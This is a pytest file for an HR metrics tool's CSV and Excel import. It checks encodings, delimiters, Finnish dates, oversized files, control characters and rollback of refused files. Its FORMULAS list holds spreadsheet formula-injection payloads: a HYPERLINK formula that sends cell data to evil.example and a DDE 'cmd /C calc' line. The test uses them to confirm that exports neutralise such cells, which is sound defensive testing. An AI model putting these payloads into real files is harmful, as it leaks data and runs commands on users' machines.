"""Real files are messy: each case an HR person's export can bring, one test each.

Either the file loads as the person meant it, or it is refused with a message they can act on
and every data table stays exactly as it was (checked by content, table by table).
"""

from __future__ import annotations

import io
import time
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from metrics import exports, idea_actions, imports, store
from metrics.cli import format_table
from metrics.imports import ImportRejected, check_file, commit
from tests.fixtures import TODAY, load, write
from tests.snapshots import snapshot

IDEAS_HEADER = "idea_id,unit_id,submitted_on,title,status"


@pytest.fixture
def city(writable_city):
    """A writable fixture city (units U1–U4, ideas I1–I9)."""
    return writable_city


def idea(con, idea_id: str) -> pd.Series:
    return store.read(con, "SELECT * FROM ideas WHERE idea_id = ?", [idea_id]).iloc[0]


def refused_unchanged(con, kind, path, **options) -> ImportRejected:
    """Load a bad file; return the refusal after checking every data table is unchanged."""
    before = snapshot(con)
    with pytest.raises(ImportRejected) as refused:
        load(con, kind, path, **options)
    assert snapshot(con) == before
    return refused.value


# ------------------------------------------------------------------- encodings and Excel's CSV


def test_utf8_with_byte_order_mark_reads_the_first_header(empty_db, tmp_path):
    load(empty_db, "organisations", write(tmp_path, "o.csv", "\ufefforg_id,name,home\nC,Kå,true\n"))
    homes = store.read(empty_db, "SELECT org_id, name FROM organisations WHERE home")
    assert homes.values.tolist() == [["C", "Kå"]]


def test_windows_1252_text_keeps_its_letters(city, tmp_path):
    path = write(
        tmp_path,
        "i.csv",
        f"{IDEAS_HEADER}\nW1,U1,2026-09-03,Kääntäjä öisin – €,käsittelyssä\n",
        "cp1252",
    )
    load(city, "ideas", path)
    row = idea(city, "W1")
    assert (row["title"], row["status"]) == ("Kääntäjä öisin – €", "in_review")


def test_semicolon_delimiter_is_detected(city, tmp_path):
    path = write(
        tmp_path,
        "i.csv",
        "Idea_ID ; Unit_ID;submitted_on;title;status\nS1;U1;2026-09-03;A, B ja C;new\n",
    )
    load(city, "ideas", path)
    # headers match whatever their case and spacing; the commas are text, not separators
    assert idea(city, "S1")["title"] == "A, B ja C"


def test_decimal_comma_and_space_thousands_are_numbers(city, tmp_path):
    path = write(
        tmp_path,
        "i.csv",
        "idea_id;unit_id;submitted_on;title;status;benefit_eur_per_year;benefit_hours_per_year\n"
        "D1;U1;2026-09-03;Säästö;new;1\u00a0234,5;12,25\n",
    )
    load(city, "ideas", path)
    row = idea(city, "D1")
    assert (row["benefit_eur_per_year"], row["benefit_hours_per_year"]) == (1234.5, 12.25)


def test_finnish_dates_are_read_and_impossible_ones_refused(city, tmp_path):
    load(city, "ideas", write(tmp_path, "i.csv", f"{IDEAS_HEADER}\nF1,U1,3.9.2026,T,new\n"))
    assert str(idea(city, "F1")["submitted_on"])[:10] == "2026-09-03"
    bad = write(tmp_path, "j.csv", f"{IDEAS_HEADER}\nF2,U1,31.2.2026,T,new\n")
    (error,) = refused_unchanged(city, "ideas", bad).errors
    assert (error.row, error.column) == (2, "submitted_on")
    assert error.reason == "not a date (write 2019-04-30 or 30.4.2019)"


# ------------------------------------------------------------------- files with nothing in them


def test_an_empty_file_is_refused(city, tmp_path):
    refused = refused_unchanged(city, "units", write(tmp_path, "e.csv", "  \n\n"))
    assert [e.reason for e in refused.errors] == ["the file is empty"]


def test_a_header_only_file_is_refused(city, tmp_path):
    refused = refused_unchanged(city, "units", write(tmp_path, "h.csv", "unit_id,name,headcount\n"))
    assert [e.reason for e in refused.errors] == ["the file has a header but no rows"]


def test_an_id_twice_in_one_file_names_both_rows(city, tmp_path):
    path = write(tmp_path, "u.csv", "unit_id,name,headcount\nA,Eka,1\nB,Toka,2\nA,Kolmas,3\n")
    (error,) = refused_unchanged(city, "units", path).errors
    assert (error.row, error.column, error.value) == (4, "unit_id", "A")
    assert error.reason == "the same unit_id is also on row 2"


# ------------------------------------------------------------------- cells that are too much


def test_a_100000_character_cell_is_stored_whole_where_text_may_be_long(city, tmp_path):
    long = ("pitkä kuvaus " * 8_000)[:100_000]  # 13 × 8,000 = 104,000 characters, cut
    load(
        city,
        "ideas",
        write(tmp_path, "i.csv", f"{IDEAS_HEADER},description\nL1,U1,2026-09-03,T,new,{long}\n"),
    )
    assert idea(city, "L1")["description"] == long


def test_a_100000_character_title_is_refused_with_a_short_report(city, tmp_path):
    path = write(tmp_path, "i.csv", f"{IDEAS_HEADER}\nL2,U1,2026-09-03,{'x' * 100_000},new\n")
    refused = refused_unchanged(city, "ideas", path)
    (error,) = refused.errors
    assert (error.row, error.column, error.reason) == (2, "title", "longer than 200 characters")
    assert len(refused.report()) < 400  # the value is shown cut to 60 characters


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Avaa")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
]


def test_a_formula_looking_cell_is_stored_as_text_and_written_out_safely(city, tmp_path):
    rows = "".join(
        f'Q{i},U1,2026-09-03,"{f.replace(chr(34), chr(34) * 2)}",new\n'
        for i, f in enumerate(FORMULAS)
    )
    load(city, "ideas", write(tmp_path, "i.csv", IDEAS_HEADER + "\n" + rows))
    stored = [idea(city, f"Q{i}")["title"] for i in range(len(FORMULAS))]
    assert stored == FORMULAS  # stored as given
    ideas = exports.current_data(city, kind="ideas")
    # CSV download: each such cell starts with a single quote
    csv_file = io.BytesIO(exports.to_csv_bytes(ideas))
    csv_titles = pd.read_csv(csv_file, dtype=str, encoding="utf-8-sig")["title"]
    assert [t for t in csv_titles if t[1:] in FORMULAS] == ["'" + f for f in FORMULAS]
    # XLSX download: text cells with the quote, none of them a formula
    sheet = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx_bytes(ideas))).active
    cells = [c for c in sheet["D"][1:] if str(c.value)[1:] in FORMULAS]
    assert [(c.value, c.data_type) for c in cells] == [("'" + f, "s") for f in FORMULAS]
    # a report printed as CSV by the command line: text quoted, numbers left as numbers
    printed = format_table(pd.DataFrame({"name": FORMULAS, "value": [-1.5] * 4}), "csv")
    report = pd.read_csv(io.StringIO(printed), dtype=str)
    assert report["name"].tolist() == ["'" + f for f in FORMULAS]
    assert report["value"].tolist() == ["-1.5"] * 4


# Control characters an HR system or a paste from Word leaves in free text: a NUL, a vertical
# tab (Word's line break), an escape sequence, DEL and a C1 character. Tab, line feed and
# carriage return stay.
DIRTY_TITLE = "Kahvi\x00kone\x0b uusiksi\x1b[1m\x7f\x85"
DIRTY_DESCRIPTION = "Rivi 1\nRivi 2\x0c\tsarkain\x01"


def assert_xlsx_download_holds(con, titles: list[str]) -> None:
    """The ideas download as XLSX (which refuses a cell with a NUL) and shows these titles."""
    ideas = exports.current_data(con, kind="ideas")
    sheet = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx_bytes(ideas))).active
    column = [c.value for c in sheet[1]].index("title")
    assert set(titles) <= {r[column].value for r in sheet.iter_rows(min_row=2)}


def test_control_characters_in_a_csv_are_removed_on_input(city, tmp_path):
    description = DIRTY_DESCRIPTION.replace("\n", "\r\n")
    path = write(
        tmp_path,
        "i.csv",
        f'{IDEAS_HEADER},description\nC1,U1,2026-09-03,{DIRTY_TITLE},new,"{description}"\n',
    )
    load(city, "ideas", path)
    row = idea(city, "C1")
    assert (row["title"], row["description"]) == (
        "Kahvikone uusiksi[1m",
        "Rivi 1\r\nRivi 2\tsarkain",
    )
    assert_xlsx_download_holds(city, ["Kahvikone uusiksi[1m"])


def test_control_characters_excel_escapes_in_a_workbook_are_removed_on_input(city, tmp_path):
    """XML cannot hold them, so Excel writes a NUL as _x0000_ and a vertical tab as _x000B_."""
    book = openpyxl.Workbook()
    book.active.append(IDEAS_HEADER.split(","))
    book.active.append(["X1", "U1", "2026-09-03", "Kahvi_x0000_kone_x000B_ uusiksi", "new"])
    book.save(tmp_path / "ideas.xlsx")
    load(city, "ideas", tmp_path / "ideas.xlsx")
    assert idea(city, "X1")["title"] == "Kahvikone uusiksi"
    assert_xlsx_download_holds(city, ["Kahvikone uusiksi"])


def test_control_characters_sent_through_the_idea_form_are_removed(city):
    sent = idea_actions.submit_idea(
        city, token="t-control", title=DIRTY_TITLE, unit_id="U1", description=DIRTY_DESCRIPTION
    )
    row = idea(city, sent.idea_id)
    assert (row["title"], row["description"]) == (
        "Kahvikone uusiksi[1m",
        "Rivi 1\nRivi 2\tsarkain",
    )
    assert_xlsx_download_holds(city, ["Kahvikone uusiksi[1m"])


# ------------------------------------------------------------------- files that are not CSV


def test_a_binary_file_renamed_csv_is_refused(city, tmp_path):
    png = tmp_path / "kuva.csv"
    png.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)))
    (error,) = refused_unchanged(city, "units", png).errors
    assert error.reason.startswith("this is not a text CSV file (it contains binary data)")


def test_an_excel_workbook_renamed_csv_is_read_as_the_workbook(empty_db, tmp_path):
    book = openpyxl.Workbook()
    book.active.append(["unit_id", "name", "headcount"])
    book.active.append(["X1", "Excel", 3])
    book.save(tmp_path / "units.csv")
    assert load(empty_db, "units", tmp_path / "units.csv").added == 1


@pytest.fixture
def workbook(tmp_path) -> Path:
    """Three sheets: instructions first, then the units, then the supervisors' notes."""
    book = openpyxl.Workbook()
    book.active.title = "Ohje"
    book.active.append(["unit_id", "name", "headcount"])
    book.active.append(["OHJE", "Täytä välilehti Yksiköt", 0])
    units = book.create_sheet("Yksiköt")
    units.append(["unit_id", "name", "headcount"])
    units.append(["X1", "Excel-yksikkö", 12])
    book.create_sheet("Muistiinpanot").append(["vapaata tekstiä"])
    book.save(tmp_path / "units.xlsx")
    return tmp_path / "units.xlsx"


def test_xlsx_with_several_sheets_reads_the_first_and_says_so(empty_db, workbook):
    done = load(empty_db, "units", workbook)
    assert done.warnings == [
        "the workbook has 3 sheets; the first, 'Ohje', was read "
        "(choose another with --sheet, or on the data page)"
    ]


def test_xlsx_named_sheet_loads(empty_db, workbook):
    load(empty_db, "units", workbook, sheet="Yksiköt")
    row = store.read(empty_db, "SELECT unit_id, org_id FROM units").iloc[0]
    assert (row["unit_id"], row["org_id"]) == ("X1", "HOME")


def test_xlsx_missing_sheet_is_refused_naming_the_sheets(city, workbook):
    refused = refused_unchanged(city, "units", workbook, sheet="Units")
    assert refused.errors[0].reason == (
        "no sheet named 'Units'; the sheets are Ohje, Yksiköt, Muistiinpanot"
    )


# ------------------------------------------------------------------- a 50 MB file


def test_a_50_mb_file_is_refused_at_once_with_a_size_message(city, tmp_path):
    """The limit is imports.max_file_mb in data/settings.toml (25 MB): a file that size loads
    in about 10 s; a 50 MB one would not, so it is refused before it is read."""
    line = b"U1,Yksikk\xc3\xb6 jonka nimi on aika pitk\xc3\xa4,12\n"
    path = tmp_path / "units_50mb.csv"
    path.write_bytes(b"unit_id,name,headcount\n" + line * (50_000_000 // len(line) + 1))
    started = time.perf_counter()
    refused = refused_unchanged(city, "units", path)
    assert time.perf_counter() - started < 5
    assert refused.errors[0].reason.startswith(
        "the file is 50.0 MB; Pöhinä loads files of up to 25 MB "
        "(imports.max_file_mb in data/settings.toml). Split it into smaller files"
    )


# ------------------------------------------------------------------- all or nothing


BAD_FILES = [
    pytest.param(
        "ideas",
        f"{IDEAS_HEADER}\nN1,U1,2026-10-01,Hyvä,new\nN2,NOPE,2026-10-01,Paha,new\n",
        id="bad-reference",
    ),
    pytest.param(
        "units", "unit_id,name,headcount,parent_id\nU1,Uusi nimi,10,\nZ,Z,1,Z\n", id="cycle"
    ),
    pytest.param(
        "survey_responses", "round_id,unit_id,SAT1\nR2,U1,4\nR2,U1,9\n", id="answer-off-scale"
    ),
    pytest.param(
        "organisations", "org_id,name,home\nHOME,Testikaupunki,false\n", id="no-home-left"
    ),
]


@pytest.mark.parametrize(("kind", "text"), BAD_FILES)
def test_a_refused_file_leaves_every_table_as_it_was(city, tmp_path, kind, text):
    refused_unchanged(city, kind, write(tmp_path, "bad.csv", text))


def test_a_preset_file_with_one_bad_part_writes_none_of_its_parts(empty_db, tmp_path):
    """The organisations of a CSPS-like file are fine, one score is not: nothing is written."""
    path = write(
        tmp_path,
        "scores.csv",
        "Organisation code,Organisation,Response rate,Employee engagement index,"
        "Leadership and managing change\nA1,Virasto,50%,61%,45%\nB2,Laitos,40%,62%,145%\n",
    )
    refused = refused_unchanged(
        empty_db, "survey_results", path, preset="csps", round_id="CSPS2019"
    )
    assert [(e.row, e.column, e.reason) for e in refused.errors] == [
        (3, "Leadership and managing change", "above 100")
    ]


def test_a_failure_while_writing_rolls_every_table_back(city, tmp_path, monkeypatch):
    """The organisations part is written, then the results part fails: both are rolled back."""
    path = write(
        tmp_path,
        "scores.csv",
        "Organisation code,Organisation,Response rate,Employee engagement index,"
        "Leadership and managing change\nA1,Virasto,50%,61%,45%\n",
    )

    def broken(cur, kind, staged):
        raise RuntimeError("disk full")

    monkeypatch.setitem(imports.WRITERS, "survey_results", broken)
    before = snapshot(city)
    with pytest.raises(RuntimeError, match="disk full"):
        load(city, "survey_results", path, preset="csps", round_id="CSPS2019")
    assert snapshot(city) == before


def test_the_commit_writes_exactly_what_was_checked(city, tmp_path):
    path = write(tmp_path, "u.csv", "unit_id,name,headcount\nU9,Uusi,7\n")
    checked = check_file(city, "units", path, today=TODAY, count=True)
    assert (checked.main.added, checked.main.updated) == (1, 0)
    assert "U9" not in store.read(city, "SELECT unit_id FROM units")["unit_id"].tolist()
    commit(city, checked)
    row = store.read(city, "SELECT unit_id, name, org_id FROM units WHERE unit_id = 'U9'")
    assert row.values.tolist() == [["U9", "Uusi", checked.main.staged.at[0, "org_id"]]]


def test_a_check_that_went_stale_is_refused_at_commit(city, tmp_path):
    """The units file leaves org_id empty, so its units go to the home organisation; the home
    organisation changes between the check and the commit, so the rows would differ."""
    checked = check_file(
        city, "units", write(tmp_path, "u.csv", "unit_id,name,headcount\nU9,Uusi,7\n"), today=TODAY
    )
    load(city, "organisations", write(tmp_path, "o.csv", "org_id,name,home\nPEER1,Naapuri,true\n"))
    before = snapshot(city)
    with pytest.raises(ImportRejected, match="changed after this file was checked"):
        commit(city, checked)
    assert snapshot(city) == before


def test_empty_columns_excel_leaves_at_the_end_are_ignored(empty_db, tmp_path):
    path = write(tmp_path, "u.csv", "unit_id;name;headcount;;\nA;Arkisto;4;;\n")
    done = load(empty_db, "units", path)
    assert (done.added, done.warnings) == (1, [])


def test_a_row_with_more_cells_than_the_header_says_so(city, tmp_path):
    path = write(tmp_path, "u.csv", "unit_id,name,headcount\nA,Arkisto,4\nB,Arkisto, osa 2,5\n")
    (error,) = refused_unchanged(city, "units", path).errors
    assert error.row == 3
    assert error.reason == (
        "the row has 4 cells but the header has 3; a cell may hold the separator ',' "
        "without quotes around it"
    )
